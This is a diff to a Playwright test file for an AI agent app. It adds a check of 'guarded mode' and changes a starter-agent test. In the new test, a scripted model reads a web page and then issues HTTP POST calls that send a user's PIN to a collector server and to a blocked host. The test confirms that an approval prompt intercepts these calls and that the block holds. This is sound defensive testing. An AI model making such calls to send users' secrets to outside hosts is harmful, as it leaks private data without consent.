@@ -1,6 +1,7 @@
 /** Agents: created by hand and by import, used in a chat, asked for approval; no typed text is lost. */
 import type { Page } from '@playwright/test';
 import { startChatServer } from '#tests/fixtures/model-servers/chat-server.ts';
+import { startWebServer } from '#tests/fixtures/web/web-server.ts';
 import { addServer, callCard, openMenu, runEnds, send, transcript } from '../chat.ts';
 import { expect, test } from '../app.ts';
 
@@ -128,6 +129,56 @@ test('an agent that asks shows the call before it runs', async ({ app }) => {
   await expect(transcript(app)).toContainText(/Tokyo/);
 });
 
+test('a guarded agent shows what would leave, and the blocked host gets nothing', async ({ app }) => {
+  const [model, page, collector] = [await startChatServer(), await startWebServer(), await startWebServer()];
+  await addServer(app, model.url);
+  await app.evaluate(
+    async (hosts) => {
+      for (const host of hosts) await window.oneclaw.permissions.allowHost(host);
+    },
+    [page, collector].map(({ url }) => new URL(url).host),
+  );
+  await openNewAgent(app, 'Guard');
+  await app.getByRole('checkbox', { name: 'All tools' }).check();
+  await app.getByRole('switch', { name: 'Guarded mode' }).check();
+  await app.getByRole('textbox', { name: 'Blocked hosts' }).fill('https://no.example');
+  await save(app);
+  await expect(app.getByText(/“https:\/\/no.example” is not a host/)).toBeVisible();
+  await app.getByRole('textbox', { name: 'Blocked hosts' }).fill('No.Example');
+  await save(app);
+  await expect(app.getByRole('link', { name: /Guard/ })).toBeVisible();
+  expect(await stored(app, 'Guard')).toMatchObject({ isGuarded: true, hosts: { block: ['no.example'] } });
+  await openChat(app);
+  await chooseAgent(app, 'Guard');
+
+  const post = (id: string, url: string) => ({
+    calls: [
+      { id, name: 'http_request', arguments: { url, method: 'POST', body: `My PIN is 4711. (${id})` } },
+    ],
+  });
+  model.enqueue({ calls: [{ id: 'read', name: 'http_request', arguments: { url: `${page.url}/text` } }] });
+  model.enqueue(post('one', `${collector.url}/text`));
+  model.enqueue(post('two', `${collector.url}/text`));
+  model.enqueue(post('three', `${collector.url}/text`));
+  model.enqueue(post('four', 'https://no.example/'));
+  model.enqueue({ text: 'That was all.' });
+  await send(app, `Read ${page.url}/text`);
+
+  const sheet = app.getByRole('alertdialog');
+  await expect(sheet).toContainText(`Send this to ${new URL(collector.url).host}?`);
+  await expect(sheet).toContainText('My PIN is 4711. (one)');
+  await expect(sheet).toContainText(`the web page ${new URL(page.url).host}`);
+  await sheet.getByRole('button', { name: 'Not now' }).click();
+  // The model tries once more; what it sends is shown again.
+  await expect(sheet).toBeVisible();
+  expect([...collector.hits.keys()]).toEqual([]);
+  await sheet.getByRole('button', { name: 'In this chat' }).click();
+  await expect(transcript(app)).toContainText('That was all.');
+  expect(collector.hits.get('/text')).toBe(2);
+  await expect(transcript(app)).toContainText('may not send anything to no.example');
+  await Promise.all([model.close(), page.close(), collector.close()]);
+});
+
 test('an EvoClaw definition is imported with the names and denials of OneClaw', async ({ app }) => {
   await openAgents(app);
   await app.getByRole('button', { name: 'Import' }).click();
@@ -195,31 +246,36 @@ test('a starter is added, gets another icon, and comes back the same from the fi
   app,
 }) => {
   await openAgents(app);
-  await app.getByRole('button', { name: /Researcher/ }).click();
-  await expect(app.getByRole('textbox', { name: 'Name' })).toHaveValue('Researcher');
+  await expect(app.getByRole('button', { name: /Writer/ })).toBeVisible();
+  // No tool searches or runs code yet.
+  await expect(app.getByRole('button', { name: /Researcher|Coder/ })).toHaveCount(0);
+  await app.getByRole('button', { name: /Writer/ }).click();
+  await expect(app.getByRole('switch', { name: 'Use the network' })).toBeChecked();
+  await expect(app.getByRole('switch', { name: 'Run shell commands' })).toHaveCount(0);
+  await expect(app.getByRole('textbox', { name: 'Name' })).toHaveValue('Writer');
   await app.getByRole('radio', { name: 'Leaf' }).check();
   await app.getByRole('radio', { name: 'Moss' }).check();
   await save(app);
-  await expect(app.getByRole('link', { name: /Researcher/ })).toBeVisible();
-  const shared = await stored(app, 'Researcher');
-  expect(shared).toMatchObject({ icon: 'leaf:moss', deny: ['shell', 'git'], maxSteps: 30 });
+  await expect(app.getByRole('link', { name: /Writer/ })).toBeVisible();
+  const shared = await stored(app, 'Writer');
+  expect(shared).toMatchObject({ icon: 'leaf:moss', deny: ['network', 'shell', 'git'], maxSteps: 20 });
 
   // The system of a test takes no files to share.
   await app.evaluate(() => Object.defineProperty(navigator, 'canShare', { value: () => false }));
   const downloaded = app.waitForEvent('download');
-  await app.getByRole('button', { name: 'Share Researcher as a file' }).click();
+  await app.getByRole('button', { name: 'Share Writer as a file' }).click();
   const file = await downloaded;
-  expect(file.suggestedFilename()).toBe('Researcher.oneclaw-agent.json');
-  await app.getByRole('button', { name: 'Remove Researcher' }).click();
-  await expect(app.getByRole('link', { name: /Researcher/ })).toHaveCount(0);
+  expect(file.suggestedFilename()).toBe('Writer.oneclaw-agent.json');
+  await app.getByRole('button', { name: 'Remove Writer' }).click();
+  await expect(app.getByRole('link', { name: /Writer/ })).toHaveCount(0);
 
   await app.getByRole('button', { name: 'Import' }).click();
   await app.locator('input[type=file]').setInputFiles(await file.path());
   await expect(app.getByRole('textbox', { name: 'Definition' })).toHaveValue(/oneclaw-agent/);
   await app.getByRole('button', { name: 'Add agent' }).click();
   await expect(app.getByRole('radio', { name: 'Leaf' })).toBeChecked();
-  expect({ ...(await stored(app, 'Researcher')), id: '' }).toEqual({ ...shared, id: '' });
+  expect({ ...(await stored(app, 'Writer')), id: '' }).toEqual({ ...shared, id: '' });
   await app.evaluate(() => (location.hash = '#/chat'));
-  await chooseAgent(app, 'Researcher');
+  await chooseAgent(app, 'Writer');
   await expect(app.locator('main header [data-colour=moss]')).toBeVisible();
 });
